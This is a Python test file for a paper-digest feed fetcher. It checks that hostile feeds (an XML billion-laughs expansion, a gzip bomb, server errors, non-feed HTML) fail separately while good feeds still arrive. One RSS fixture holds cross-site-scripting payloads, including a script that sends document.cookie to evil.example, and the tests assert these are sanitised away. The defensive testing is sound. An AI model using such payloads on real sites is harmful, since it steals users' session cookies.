"""Hostile and broken feeds served over loopback: each is handled on its own, the good sources unaffected."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Iterator
from pathlib import Path

import pytest
from loopback_http import LoopbackServer, Reply
from test_feed import billion_laughs

from digest.sources.fetch import make_client
from digest.sources.gather import SourceOutcome, SourceRequest, fetch_many

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
AGENT = "digest-tests/0.1 (mailto:tests@example.org)"

SCRIPTED = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Lab blog</title>
<item><title>&lt;img src=x onerror=alert(1)&gt;Our &lt;b&gt;new&lt;/b&gt; paper</title>
<link>https://lab.example/posts/1</link>
<description>&lt;script&gt;document.location='https://evil.example/'+document.cookie&lt;/script&gt;
&lt;p style="x"&gt;We study &lt;a href="javascript:alert(1)"&gt;things&lt;/a&gt;.&lt;/p&gt;
</description></item>
</channel></rss>"""

TRUNCATED = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Journal</title>
<item><title>Complete entry</title><link>https://journal.example/1</link></item>
<item><title>Cut off in the mid"""


@pytest.fixture
def server() -> Iterator[LoopbackServer]:
    with LoopbackServer() as running:
        yield running


async def no_wait(seconds: float) -> None:
    """Retries happen, but the test does not sit through their backoff."""


def gather_all(server: LoopbackServer, routes: dict[str, tuple[str, Reply]]) -> dict[str, SourceOutcome]:
    requests = []
    for path, (kind, reply) in routes.items():
        server.routes[path] = reply
        requests.append(SourceRequest(name=path.strip("/"), kind=kind, url=server.url(path)))

    async def main() -> list[SourceOutcome]:
        async with make_client(AGENT, timeout=2.0) as client:
            return await fetch_many(client, requests, max_bytes=5_000_000, sleep=no_wait)

    return {o.name: o for o in asyncio.run(main())}


def test_each_hostile_source_fails_alone_and_the_good_ones_still_arrive(server: LoopbackServer) -> None:
    hf = (FIXTURES / "hf-daily-papers_2026-07-31_5papers_pretty.json").read_bytes()
    rss = (FIXTURES / "arxiv-rss_all-archives_2024-11-28.xml").read_bytes()
    outcomes = gather_all(
        server,
        {
            "/hf": ("hf_daily", Reply(200, hf)),
            "/rss": ("arxiv_rss", Reply(200, gzip.compress(rss), {"Content-Encoding": "gzip"})),
            "/laughs": ("feed", Reply(200, billion_laughs(1_000_000))),
            "/bomb": ("feed", Reply(200, gzip.compress(b" " * 50_000_000), {"Content-Encoding": "gzip"})),
            "/broken": ("arxiv_api", Reply(500, b"oops")),
            "/html": ("feed", Reply(200, b"<html><body>Not a feed</body></html>")),
        },
    )
    for good, count in (("hf", 5), ("rss", 935)):
        result = outcomes[good].result
        assert result is not None
        assert len(result.papers) == count
    expected = {
        "laughs": "refused: the document declares a DOCTYPE",
        "bomb": "over the 5000000-byte limit",
        "broken": "HTTP 500 after 4 attempts",
        "html": "not an RSS or Atom feed",
    }
    for failed, message in expected.items():
        assert message in (outcomes[failed].error or ""), failed
    for failed in expected:
        assert outcomes[failed].result is None
        assert "\n" not in (outcomes[failed].error or "")


def test_scripts_and_handlers_in_a_served_feed_never_reach_the_papers(server: LoopbackServer) -> None:
    outcome = gather_all(server, {"/blog": ("feed", Reply(200, SCRIPTED))})["blog"]
    assert outcome.result is not None
    paper = outcome.result.papers[0]
    assert paper.title == "Our new paper"
    assert paper.abstract == "We study things."
    for bad in ("<", "script", "onerror", "javascript", "cookie", "evil"):
        assert bad not in paper.title + paper.abstract


def test_a_truncated_feed_keeps_its_good_entries_with_a_warning(server: LoopbackServer) -> None:
    outcome = gather_all(server, {"/journal": ("feed", Reply(200, TRUNCATED))})["journal"]
    assert outcome.result is not None
    assert [p.title for p in outcome.result.papers] == ["Complete entry"]
    assert outcome.result.warnings[0].startswith("feed is not well-formed (")
